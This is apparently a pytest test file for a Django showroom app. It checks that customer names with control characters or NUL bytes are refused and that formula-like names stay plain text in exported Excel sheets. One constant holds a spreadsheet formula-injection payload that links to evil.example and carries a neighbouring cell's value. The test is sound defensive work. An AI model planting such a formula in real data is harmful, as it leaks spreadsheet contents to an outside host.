"""Text typed on the card: control characters are refused with a message; a name that looks
like a formula is kept as typed and stays text in the workbooks."""

import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from showroom.customers.models import Customer
from showroom.sales.cards.tests.test_card_new import prospect

pytestmark = pytest.mark.django_db

NOW = dt.datetime(2026, 10, 10, 2, 0, tzinfo=dt.UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'


@pytest.mark.parametrize("name", ["控制\x01符", "退格\x08", "转义\x1b[31m"])
@time_machine.travel(NOW, tick=False)
def test_a_control_character_in_a_name_is_refused(client, store, consultant, name):
    client.force_login(consultant)
    response = client.post(reverse("customers:new"), prospect(name=name))
    assert response.status_code == 200
    assert response.context["form"].errors["name"] == ["文本中不能含有控制字符。"]
    assert not Customer.objects.exists()


@time_machine.travel(NOW, tick=False)
def test_a_nul_is_refused(client, store, consultant):
    # Refused before the form is read: PostgreSQL could not even look the text up.
    client.force_login(consultant)
    response = client.post(reverse("customers:new"), prospect(model="途\x00胜"))
    assert response.status_code == 400
    assert response.content.decode() == "请求中含有空字符（NUL），无法保存。请删除后重试。"
    assert not Customer.objects.exists()


@time_machine.travel(NOW, tick=False)
def test_a_formula_typed_as_a_name_is_text_in_the_contact_sheet(client, store, consultant):
    client.force_login(consultant)
    assert client.post(reverse("customers:new"), prospect(name=HYPERLINK)).status_code == 302
    assert Customer.objects.get().name == HYPERLINK
    response = client.get(reverse("reports:contact_status_xlsx"), {"month": "2026-10"})
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    (cell,) = [c for row in ws.iter_rows() for c in row if c.value == HYPERLINK]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)
